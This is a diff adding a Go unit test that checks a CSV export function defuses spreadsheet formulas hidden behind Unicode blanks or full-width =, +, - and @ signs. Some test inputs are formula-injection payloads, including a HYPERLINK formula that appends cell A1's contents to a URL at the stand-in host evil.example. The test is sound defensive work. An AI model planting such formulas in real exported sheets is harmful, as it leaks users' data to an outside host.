@@ -92,3 +92,35 @@ func TestCSVCell(t *testing.T) {
 		}
 	}
 }
+
+// A formula behind a blank that is not an ASCII space (a no-break space,
+// an ideographic space, a zero-width space or byte order mark), or
+// written with the full-width signs that East Asian input methods type
+// and spreadsheets take as =, +, - and @ (OWASP's list names them), is
+// defused as the ASCII ones are: an editor's note "\u00a0=HYPERLINK(…)"
+// or "＝HYPERLINK(…)", or a name behind one, went into the facilitator's
+// sheet as it was.
+func TestCSVCellUnicodeBlanksAndFullWidthSigns(t *testing.T) {
+	for _, in := range []string{
+		"\u00a0=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+		"\u3000=1+1",
+		"\u2003+1",
+		"\u200b=1+1",
+		"\ufeff@SUM(A1)",
+		"\u2028-1",
+		"\uff1dHYPERLINK(\"http://evil.example\")",
+		"\uff0b1",
+		"\uff0d1",
+		"\uff20SUM(A1)",
+		" \u00a0\uff1d1",
+	} {
+		if got := csvCell(in); !strings.HasPrefix(got, "'") {
+			t.Errorf("csvCell(%q) = %q, not defused", in, got)
+		}
+	}
+	for _, in := range []string{"\u00a0A1", "\u3000ideas", "\uff21\uff11"} {
+		if got := csvCell(in); got != in {
+			t.Errorf("csvCell(%q) = %q, want it as it is", in, got)
+		}
+	}
+}
